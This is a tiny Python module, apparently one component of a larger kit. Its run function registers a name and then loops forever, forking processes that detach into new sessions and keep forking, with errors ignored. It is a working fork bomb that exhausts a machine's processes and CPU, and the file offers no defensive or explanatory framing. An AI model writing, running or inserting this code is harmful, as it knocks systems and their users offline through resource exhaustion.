import os

from src.kit import take_name


def run(mark, **_):
    take_name(mark)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue
